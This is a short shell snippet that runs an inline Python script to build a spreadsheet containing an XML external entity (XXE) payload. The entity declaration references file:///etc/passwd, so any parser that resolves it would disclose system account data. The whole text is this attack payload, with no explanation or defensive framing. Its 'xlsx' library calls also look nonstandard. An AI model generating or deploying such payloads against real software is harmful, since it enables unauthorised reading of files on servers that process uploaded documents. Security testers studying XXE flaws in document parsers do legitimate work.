/usr/bin/python3 - <<'END'
import xlsx

xlsx.write(sheet1=('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + xlsx.sheet()).encode("utf-16"))
END
